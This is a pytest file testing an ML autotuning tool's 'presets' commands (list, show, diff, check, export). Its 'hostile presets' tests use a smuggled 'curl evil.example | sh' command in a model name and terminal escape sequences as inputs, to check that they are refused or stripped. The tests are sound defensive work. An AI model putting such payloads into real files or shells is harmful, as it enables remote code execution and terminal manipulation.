"""`autotune presets list|show|diff|check|export`. The burst runner and the hardware probe
are replaced by fakes here (they have their own tests), except in one slow test."""

from __future__ import annotations

import json
import os
import signal
import textwrap
from pathlib import Path
from typing import Any

import pytest
from fake_presets import (
    A100,
    GiB,
    gpu_fingerprint,
    make_config,
    make_gpu,
    make_preset,
    make_profile,
    wire_preset_places,
)
from typer.testing import CliRunner, Result

from autotune.burst import supervisor as burst
from autotune.burst.result import BurstResult
from autotune.cli.main import app
from autotune.machine import hardware
from autotune.preset import (
    Measured,
    ModelRef,
    Preset,
    Task,
    load_preset,
    preset_to_dict,
    save_preset,
)

TINY_MODEL = textwrap.dedent(
    """
    import torch
    from torch import nn

    from autotune.contract.spec import ModelSpec


    def build(*, width: int = 8) -> nn.Module:
        return nn.Sequential(nn.Linear(width, width), nn.ReLU(), nn.Linear(width, 1))


    def make_batch(args, batch_size, seq_len, generator):
        x = torch.randn(batch_size, args["width"], generator=generator)  # (B, W)
        return {"x": x, "y": x.sum(dim=1, keepdim=True)}  # y: (B, 1)


    def loss(model, batch):
        return nn.functional.mse_loss(model(batch["x"]), batch["y"])


    def flops(args, seq_len):
        return 6.0 * (args["width"] ** 2 + args["width"])


    spec = ModelSpec(
        name="tiny",
        description="a tiny MLP for preset tests",
        task="regression",
        build_fn=build,
        make_batch_fn=make_batch,
        loss_fn=loss,
        flops_fn=flops,
        args={"width": 8},
        seq_len=1,
        max_seq_len=1,
        global_batch=8,
        throughput_unit="samples",
    )
    """
)


def invoke(*args: str) -> Result:
    return CliRunner().invoke(app, ["presets", *args])


@pytest.fixture
def places(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, Path]:
    """Empty shipped, working and user preset folders, wired in."""
    return wire_preset_places(tmp_path, monkeypatch)


def tiny_preset(folder: Path, **changes: Any) -> Preset:
    model_file = folder / "tiny.py"
    model_file.write_text(TINY_MODEL)
    fields: dict[str, Any] = dict(
        name="tiny-cpu",
        model=ModelRef(name=f"{model_file}:spec", args={"width": 16}),
        task=Task(seq_len=1, global_batch=8),
        config=make_config(micro_batch=4, grad_accum=2, seq_len=1, knobs={}),
        budget_bytes=None,
        measured=Measured(
            samples_per_s=1000.0,
            step_time_median_s=0.008,
            step_time_p90_s=0.01,
            peak_memory_bytes=200 * 2**20,
        ),
    )
    fields.update(changes)
    return make_preset(**fields)


# -- list ----------------------------------------------------------------------------------


def test_list_with_no_presets(places: dict[str, Path]) -> None:
    result = invoke("list")
    assert result.exit_code == 0, result.output
    assert "no presets found" in result.output
    result = invoke("list", "--json")
    assert result.exit_code == 0 and json.loads(result.stdout) == []


def test_list_shows_every_origin_and_flags_invalid_files(places: dict[str, Path]) -> None:
    save_preset(make_preset(name="shipped-mu"), places["builtin"] / "cpu" / "mu.yaml")
    gpu = make_preset(name="gpu-one", fingerprint=gpu_fingerprint(), baseline=None)
    save_preset(gpu, places["cwd"] / "best.yaml")
    (places["user"]).mkdir(parents=True)
    (places["user"] / "broken.yaml").write_text("schema_version: 2\nname: [\n")
    result = invoke("list", "--json")
    assert result.exit_code == 0, result.output
    rows = json.loads(result.stdout)
    assert [(r["origin"], r["ref"]) for r in rows] == [
        ("builtin", "cpu/mu"),
        ("cwd", "./best.yaml"),  # by its path: the working directory is not searched by name
        ("user", "broken"),
    ]
    assert rows[0]["name"] == "shipped-mu" and rows[0]["model"] == "mu"
    assert rows[0]["throughput"] == 12345.678901234567 and rows[0]["speedup"] == 2.469
    assert rows[0]["throughput_unit"] == "tokens/s"
    assert rows[1]["device"] == A100 and rows[1]["speedup"] is None
    assert "not valid YAML" in rows[2]["error"]
    table = invoke("list")
    assert table.exit_code == 0
    for text in ("builtin", "cpu/mu", "best", "invalid", "2.47x", "12,345.7 tokens/s"):
        assert text in table.output


# -- show ----------------------------------------------------------------------------------


def test_show_by_name_and_by_path(places: dict[str, Path]) -> None:
    path = save_preset(make_preset(), places["builtin"] / "mu.yaml")
    by_name = invoke("show", "mu")
    assert by_name.exit_code == 0, by_name.output
    for text in (
        "preset mu-cpu",
        "model         mu  (args: n_layer=2, dims=[64, 128])",
        "budget        7.45 GiB (8000000000 bytes)",
        "throughput    12,345.7 tokens/s, 2.47x the naive config",
        "precision",
        "config (where it differs)  micro_batch=1, grad_accum=32, knobs={}",
        "study_name",
        "measured  (on Intel(R) Xeon(R) CPU @ 2.20GHz (cpu, 2 cores))",
        "schedule",
        "measured on a quiet machine",
    ):
        assert text in by_name.output, text
    assert invoke("show", str(path)).output == by_name.output
    as_json = invoke("show", str(path), "--json")
    assert as_json.exit_code == 0
    data = json.loads(as_json.stdout)
    assert data.pop("path") == str(path)
    assert data == json.loads(json.dumps(preset_to_dict(make_preset())))


def test_show_errors_exit_2_with_one_paragraph(places: dict[str, Path]) -> None:
    missing = invoke("show", "nothing-here")
    assert missing.exit_code == 2
    assert missing.output.startswith("error: no preset 'nothing-here'")
    bad = places["cwd"] / "bad.yaml"
    data = preset_to_dict(make_preset())
    data["config"]["precision"] = "fp8"
    data["config"]["micro_batch"] = 0
    import yaml

    bad.write_text(yaml.safe_dump(data))
    result = invoke("show", str(bad))
    assert result.exit_code == 2
    assert "Traceback" not in result.output
    assert result.output.startswith(f"error: invalid preset {bad}:")
    assert "config.precision: expected one of fp32, tf32, bf16, fp16; got 'fp8'" in result.output
    assert "config.micro_batch: expected a positive integer, got 0" in result.output


# -- diff ----------------------------------------------------------------------------------


def test_diff_marks_only_the_differing_fields(places: dict[str, Path]) -> None:
    a = save_preset(make_preset(), places["cwd"] / "a.yaml")
    other = make_preset(name="b", config=make_config(precision="bf16", knobs={"block_group": 2}))
    b = save_preset(other, places["cwd"] / "b.yaml")
    result = invoke("diff", str(a), str(b), "--json")
    assert result.exit_code == 0, result.output
    fields = json.loads(result.stdout)["fields"]
    assert [(f["field"], f["a"], f["b"]) for f in fields] == [
        ("name", "mu-cpu", "b"),
        ("config.precision", "fp32", "bf16"),
    ]
    everything = json.loads(invoke("diff", str(a), str(b), "--all", "--json").stdout)["fields"]
    assert len(everything) > 50 and sum(f["differs"] for f in everything) == 2
    table = invoke("diff", str(a), str(b))
    assert table.exit_code == 0
    assert "config.precision" in table.output and "2 of" in table.output
    assert "config.micro_batch" not in table.output
    assert "config.micro_batch" in invoke("diff", str(a), str(b), "--all").output
    same = invoke("diff", str(a), str(a))
    assert same.exit_code == 0 and "identical" in same.output


def test_diff_shows_a_section_one_preset_has_and_the_other_holds_as_null(
    places: dict[str, Path],
) -> None:
    # "baseline │ - │ -" where B had a full baseline: its fields are the rows below
    with_baseline = make_preset()
    assert with_baseline.baseline is not None
    a = save_preset(make_preset(baseline=None), places["cwd"] / "a.yaml")
    b = save_preset(with_baseline, places["cwd"] / "b.yaml")
    fields = json.loads(invoke("diff", str(a), str(b), "--json").stdout)["fields"]
    row = next(f for f in fields if f["field"] == "baseline")
    assert (row["a"], row["b"], row["differs"]) == (None, None, True)  # JSON: data only
    assert any(f["field"].startswith("baseline.") and f["b"] is not None for f in fields)
    table = invoke("diff", str(a), str(b)).output
    (line,) = [ln for ln in table.splitlines() if " baseline " in ln]
    assert line.split("│")[3].strip() == "-" and "(its fields below)" in line.split("│")[4]


def test_diff_of_a_missing_preset_exits_2(places: dict[str, Path]) -> None:
    a = save_preset(make_preset(), places["cwd"] / "a.yaml")
    result = invoke("diff", str(a), "nope.yaml")
    assert result.exit_code == 2 and result.output.startswith("error: no preset file 'nope.yaml'")


# -- check ---------------------------------------------------------------------------------


class FakeBurst:
    """Stands in for autotune.burst.supervisor.run_burst; records its call."""

    def __init__(self, result: BurstResult) -> None:
        self.result = result
        self.calls: list[dict[str, Any]] = []

    def __call__(self, spec: Any, config: Any, **kwargs: Any) -> BurstResult:
        self.calls.append({"spec": spec, "config": config, **kwargs})
        return self.result


def wire(monkeypatch: pytest.MonkeyPatch, result: BurstResult, **profile: Any) -> FakeBurst:
    fake = FakeBurst(result)
    monkeypatch.setattr(burst, "run_burst", fake)
    monkeypatch.setattr(hardware, "probe", lambda: make_profile(**profile))
    return fake


def test_check_compares_measured_with_recorded(
    places: dict[str, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    path = save_preset(tiny_preset(places["cwd"]), places["cwd"] / "tiny.yaml")
    result = BurstResult(
        status="ok",
        samples_per_s=900.0,
        step_time_median_s=0.0088,
        step_time_p90_s=0.011,
        peak_memory_bytes=100 * 2**20,
        throughput_unit="samples",
    )
    fake = wire(monkeypatch, result)
    out = invoke("check", str(path), "--trust-model", "--steps", "4", "--warmup", "1", "--json")
    assert out.exit_code == 0, out.output
    data = json.loads(out.stdout)
    assert data["portability"]["same_device"] is True
    rows = {row["field"]: row for row in data["comparison"]}
    assert rows["throughput"]["unit"] == "samples/s"
    assert rows["throughput"]["ratio"] == pytest.approx(0.9)
    assert rows["peak_memory_bytes"]["ratio"] == pytest.approx(0.5)
    assert rows["compile_s"]["ratio"] is None
    (call,) = fake.calls
    assert call["spec"].args == {"width": 16}  # the preset's model args were applied
    assert call["config"] == load_preset(path).config
    assert (call["steps"], call["warmup"], call["device"]) == (4, 1, "cpu")
    assert call["budget_bytes"] is None and call["seed"] == 0

    text = invoke("check", str(path), "--trust-model")
    assert text.exit_code == 0, text.output
    lines = text.output.splitlines()
    assert lines[0].startswith("portability: same device as recorded")
    assert any(line.startswith("throughput") and "0.90x" in line for line in lines)
    assert any(line.startswith("peak_memory_bytes") and "0.50x" in line for line in lines)


def test_check_on_other_hardware_says_measured_elsewhere_first(
    places: dict[str, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    path = save_preset(tiny_preset(places["cwd"]), places["cwd"] / "tiny.yaml")
    ok = BurstResult(status="ok", samples_per_s=400.0, throughput_unit="samples")
    wire(monkeypatch, ok, cpu_model="AMD EPYC 7B12", cores=8)
    out = invoke("check", str(path), "--trust-model")
    assert out.exit_code == 0, out.output
    assert out.output.startswith("portability: measured elsewhere")
    assert "cpu_model: preset" in out.output
    assert "recorded (elsewhere)" in out.output
    assert "0.40x the recorded figure" in out.output


def test_check_refuses_a_precision_this_device_cannot_run(
    places: dict[str, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    bf16 = tiny_preset(
        places["cwd"],
        fingerprint=gpu_fingerprint(),
        config=make_config(micro_batch=4, grad_accum=2, precision="bf16"),
    )
    path = save_preset(bf16, places["cwd"] / "bf16.yaml")
    fake = wire(
        monkeypatch,
        BurstResult(status="ok"),
        gpus=(make_gpu(name="Tesla V100-SXM2-16GB", cc=(7, 0), total=16 * GiB),),
    )
    out = invoke("check", str(path), "--trust-model")
    assert out.exit_code == 2
    assert out.output.startswith("error: preset 'tiny-cpu' cannot run on cuda:0")
    assert "use fp16 instead" in out.output and "Traceback" not in out.output
    assert fake.calls == []  # refused before any burst


def test_check_refuses_a_config_its_model_does_not_take_before_any_burst(
    places: dict[str, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    # a knob the model has not: the burst failed with a KeyError, exit 1, where train
    # refuses the same preset with exit 2
    odd = tiny_preset(
        places["cwd"], config=make_config(micro_batch=4, grad_accum=2, seq_len=1, knobs={"x": 1})
    )
    path = save_preset(odd, places["cwd"] / "odd.yaml")
    fake = wire(monkeypatch, BurstResult(status="ok"))
    out = invoke("check", str(path), "--trust-model")
    assert out.exit_code == 2, out.output
    assert "the preset's config does not fit" in out.output and "on cpu" in out.output
    assert "config.knobs.x: model" in out.output and "has no such knob" in out.output
    assert fake.calls == []


def test_check_refuses_too_little_memory_unless_forced(
    places: dict[str, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    path = save_preset(tiny_preset(places["cwd"]), places["cwd"] / "tiny.yaml")
    fake = wire(
        monkeypatch,
        BurstResult(status="ok", samples_per_s=1.0, throughput_unit="samples"),
        available=100 * 2**20,
    )
    refused = invoke("check", str(path), "--trust-model")
    assert refused.exit_code == 2 and "exceeds the 100.00 MiB of available RAM" in refused.output
    forced = invoke("check", str(path), "--trust-model", "--force")
    assert forced.exit_code == 0, forced.output
    assert "warning" in forced.output and "forced" in forced.output
    assert len(fake.calls) == 1


def test_check_with_a_failed_burst_exits_1(
    places: dict[str, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    path = save_preset(tiny_preset(places["cwd"]), places["cwd"] / "tiny.yaml")
    wire(monkeypatch, BurstResult(status="oom", reason="CUDA out of memory at step 2"))
    out = invoke("check", str(path), "--trust-model", "--json")
    assert out.exit_code == 1
    assert json.loads(out.stdout)["burst"]["status"] == "oom"
    assert "did not finish on cpu: oom: CUDA out of memory at step 2" in out.stderr


def test_check_stopped_by_sigterm_says_so_and_exits_143(
    places: dict[str, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The default action ended the check without a word."""
    path = save_preset(tiny_preset(places["cwd"]), places["cwd"] / "tiny.yaml")
    wire(monkeypatch, BurstResult(status="ok"))

    def stopped(*args: object, **kwargs: object) -> BurstResult:
        os.kill(os.getpid(), signal.SIGTERM)
        return BurstResult(status="ok")

    monkeypatch.setattr(burst, "run_burst", stopped)
    before = signal.signal(signal.SIGTERM, lambda *_: None)  # not the default action
    try:
        out = invoke("check", str(path), "--trust-model")
    finally:
        signal.signal(signal.SIGTERM, before)
    assert out.exit_code == 143, out.output
    assert "stopped by SIGTERM" in out.stderr


def test_check_runs_a_presets_user_code_only_with_consent(
    places: dict[str, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    preset = tiny_preset(places["cwd"])
    model_file = Path(preset.model.name.rpartition(":")[0])
    marker = places["cwd"] / "ran.txt"
    model_file.write_text(
        f"from pathlib import Path\nPath({str(marker)!r}).write_text('ran')\n" + TINY_MODEL
    )
    path = save_preset(preset, places["cwd"] / "shared.yaml")
    fake = wire(monkeypatch, BurstResult(status="ok", samples_per_s=1.0, throughput_unit="samples"))
    for command in (["show"], ["diff", str(path)], ["export", "--format", "json"], ["check"]):
        out = invoke(command[0], str(path), *command[1:])
        assert not marker.exists(), f"presets {command[0]} ran the preset's model code"
        assert "Traceback" not in out.output
    refused = invoke("check", str(path))
    assert refused.exit_code == 2 and "--trust-model" in refused.output
    assert "--model" not in refused.output.replace("--trust-model", "")  # check has no --model
    assert fake.calls == [] and not marker.exists()
    allowed = invoke("check", str(path), "--trust-model")
    assert allowed.exit_code == 0, allowed.output
    assert marker.exists() and f"running user code from {model_file}" in allowed.output


def test_check_an_unknown_device_exits_2(
    places: dict[str, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    path = save_preset(tiny_preset(places["cwd"]), places["cwd"] / "tiny.yaml")
    wire(monkeypatch, BurstResult(status="ok"))
    out = invoke("check", str(path), "--trust-model", "--device", "cuda:3")
    assert out.exit_code == 2 and "does not exist here" in out.output


@pytest.mark.slow
def test_check_runs_a_real_burst(places: dict[str, Path]) -> None:
    path = save_preset(tiny_preset(places["cwd"]), places["cwd"] / "tiny.yaml")
    out = invoke("check", str(path), "--trust-model", "--steps", "3", "--warmup", "1", "--json")
    if isinstance(out.exception, NotImplementedError):
        pytest.skip(f"not implemented yet: {out.exception} (the burst runner or the probe)")
    assert out.exit_code == 0, out.output
    data = json.loads(out.stdout)
    assert data["burst"]["status"] == "ok"
    throughput = next(r for r in data["comparison"] if r["field"] == "throughput")
    assert throughput["here"] > 0 and throughput["ratio"] > 0


# -- export --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("change", "said"),
    [
        ({"knobs": {"block_group": 999}}, "config.knobs.block_group: expected one of 1, 2, 4"),
        ({"knobs": {"nope": 1}}, "config.knobs.nope: model 'mu' has no such knob"),
        ({"seq_len": 100_000}, "config.seq_len: model 'mu' accepts at most 512, got 100000"),
    ],
)
def test_export_refuses_a_config_its_model_refuses(
    places: dict[str, Path], change: dict[str, Any], said: str
) -> None:
    """``presets export`` said "validated" and wrote settings for configs that ``train``
    then refused: a knob value the model has not, a knob it has not, a sequence past its
    limit. Nothing is written."""
    import dataclasses

    preset = make_preset()
    preset = dataclasses.replace(preset, config=dataclasses.replace(preset.config, **change))
    path = save_preset(preset, places["cwd"] / "best.yaml")
    out = invoke("export", str(path), "--format", "hf", "--output", "hf.yaml")
    assert out.exit_code == 2, out.output
    assert "the preset's config does not fit 'mu'" in out.output and said in out.output
    assert not (places["cwd"] / "hf.yaml").exists()


def test_export_json_to_stdout_and_file(places: dict[str, Path]) -> None:
    path = save_preset(make_preset(), places["cwd"] / "best.yaml")
    out = invoke("export", str(path), "--format", "json")
    assert out.exit_code == 0, out.output
    assert json.loads(out.stdout) == json.loads(json.dumps(preset_to_dict(make_preset())))
    target = places["cwd"] / "out" / "best.json"
    written = invoke("export", "best.yaml", "--format", "json", "--output", str(target))
    assert written.exit_code == 0, written.output
    assert json.loads(target.read_text()) == json.loads(out.stdout)
    again = invoke("export", "best.yaml", "--output", str(target))
    assert again.exit_code == 2 and "already exists" in again.output
    assert invoke("export", "best.yaml", "--output", str(target), "--overwrite").exit_code == 0
    as_yaml = invoke("export", "best.yaml", "--format", "yaml")
    assert as_yaml.exit_code == 0 and as_yaml.stdout.startswith("# autotune preset")
    bad = invoke("export", "best.yaml", "--format", "xml")
    assert bad.exit_code == 2
    assert bad.output.startswith(
        "error: --format: expected one of json, yaml, hf, lightning, accelerate, deepspeed, "
        "torchrun; got 'xml'"
    )


def test_export_to_a_path_under_a_file_says_the_file_is_no_folder(places: dict[str, Path]) -> None:
    # "-o best.yaml/x --overwrite" said "already exists", after printing the notes of a
    # conversion it could not write
    save_preset(make_preset(), places["cwd"] / "best.yaml")
    before = (places["cwd"] / "best.yaml").read_bytes()
    for extra in ([], ["--overwrite"]):
        out = invoke("export", "best.yaml", "--format", "hf", "--output", "best.yaml/x", *extra)
        assert out.exit_code == 2, out.output
        assert out.output.startswith(
            "error: --output 'best.yaml/x': 'best.yaml' is not a folder; give a path in a "
            "folder you can write to"
        ), out.output
    assert (places["cwd"] / "best.yaml").read_bytes() == before


# -- hostile presets -------------------------------------------------------------------------


def _hostile_file(folder: Path) -> Path:
    """A preset whose names carry a newline, an OSC title sequence and a command."""
    import yaml

    data = preset_to_dict(make_preset())
    data["name"] = "evil\x1b]0;owned\x07"
    data["model"]["name"] = "mu\ncurl evil.example | sh"
    data["fingerprint"]["device_name"] = "A100\r\nx"
    data["config"]["knobs"] = {"block_group\x1b[2J": 2}
    path = folder / "hostile.yaml"
    path.write_text(yaml.safe_dump(data))
    return path


@pytest.mark.parametrize("command", [["show"], ["export", "--format", "torchrun"]])
def test_a_name_with_control_characters_is_refused_in_one_paragraph(
    places: dict[str, Path], command: list[str]
) -> None:
    path = _hostile_file(places["cwd"])
    result = invoke(command[0], str(path), *command[1:])
    assert result.exit_code == 2
    assert result.stdout == ""  # nothing exported, nothing shown
    assert "Traceback" not in result.output
    assert result.output.startswith(f"error: invalid preset {path}:")
    for where, code in [
        ("name", "001B"),
        ("model.name", "000A"),
        ("fingerprint.device_name", "000D"),
    ]:
        assert f"  - {where}: contains the control character U+{code}" in result.output
    assert "  - config.knobs: the knob 'block_group\\x1b[2J' contains" in result.output
    assert "\x1b" not in result.output and "\x07" not in result.output


def test_show_passes_no_terminal_sequence(places: dict[str, Path]) -> None:
    osc, dcs, c1 = "\x1b]8;;http://evil.example\x1b\\", "\x1bP+q\x1b\\", "\x9b31m\x9d0;t\x9c"
    notes = f"line one {osc}link\nline two {dcs}{c1}\x1b[31mred\x07"
    save_preset(make_preset(notes=notes), places["cwd"] / "best.yaml")
    result = invoke("show", "best.yaml")
    assert result.exit_code == 0, result.output
    for char in ("\x1b", "\x07", "\x9b", "\x9c", "\x9d", "\x90"):
        assert char not in result.output
    assert "  line one link\n  line two red" in result.output


# -- list on a narrow terminal ---------------------------------------------------------------


def test_list_never_cuts_a_name_on_an_80_column_terminal(
    places: dict[str, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The name is what a user types next (``presets show NAME``): whole on an 80-column
    terminal, however long it and the other columns are; the other columns wrap."""
    shipped = ["cpu/gpt-small-epyc-7b13-64-core", "cuda/h100/gpt2-124m-bf16-compiled"]
    for ref in shipped:
        path = places["builtin"] / f"{ref}.yaml"
        path.parent.mkdir(parents=True, exist_ok=True)
        save_preset(make_preset(name=ref.replace("/", "-"), fingerprint=gpu_fingerprint()), path)
    places["user"].mkdir(parents=True)
    save_preset(make_preset(name="mine"), places["user"] / "my-own-long-preset-name.yaml")
    monkeypatch.setenv("COLUMNS", "80")
    result = invoke("list")
    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert max(len(line) for line in lines) <= 80
    for ref in [*shipped, "my-own-long-preset-name"]:
        assert any(f" {ref} " in line for line in lines), (ref, result.stdout)
    assert "…" not in result.stdout  # the other columns fold; nothing is cut off either
    listed = json.loads(invoke("list", "--json").stdout)
    assert sorted(row["ref"] for row in listed) == sorted([*shipped, "my-own-long-preset-name"])


def test_show_and_list_print_the_speedup_with_its_evidence(places: dict[str, Path]) -> None:
    # A race whose rounds all ran under load has no speedup: "not measured (why)", never a
    # figure the machine made up; one round has a figure but no interval.
    from autotune.preset import Baseline, Race

    reason = "no quiet round, and no quiet trial of both configs"
    unmeasured = make_preset(
        baseline=Baseline(config=make_config(micro_batch=1, grad_accum=32), speedup=None),
        race=Race(rounds=2, unit="tokens/s", winner="#3", speedup=None, speedup_reason=reason),
    )
    save_preset(unmeasured, places["builtin"] / "mu.yaml")
    shown = invoke("show", "mu")
    assert shown.exit_code == 0, shown.output
    assert f"speedup: not measured ({reason})" in shown.output
    assert "x the naive config" not in shown.output
    listed = invoke("list", "--json")
    row = json.loads(listed.stdout)[0]
    assert row["speedup"] is None and row["speedup_text"] == f"not measured ({reason})"
    one = make_preset(
        name="one-round",
        race=Race(rounds=1, unit="tokens/s", winner="#3", speedup=2.5, interval_reason="1 round"),
    )
    save_preset(one, places["builtin"] / "one.yaml")
    assert "2.50x the naive config (no interval: 1 round)" in invoke("show", "one").output


def test_every_export_format_has_a_file_to_name_in_a_refusal(places: dict[str, Path]) -> None:
    from autotune.cli.presets import _EXAMPLE_FILES
    from autotune.preset.export import EXPORT_FORMATS

    assert set(_EXAMPLE_FILES) == set(EXPORT_FORMATS)  # a new format: a KeyError before
    save_preset(make_preset(), places["cwd"] / "p.yaml")
    out = invoke("export", "p.yaml", "--format", "torchrun", "--output", str(places["cwd"]))
    assert out.exit_code == 2 and "is a directory; give a file such as run.sh" in out.output
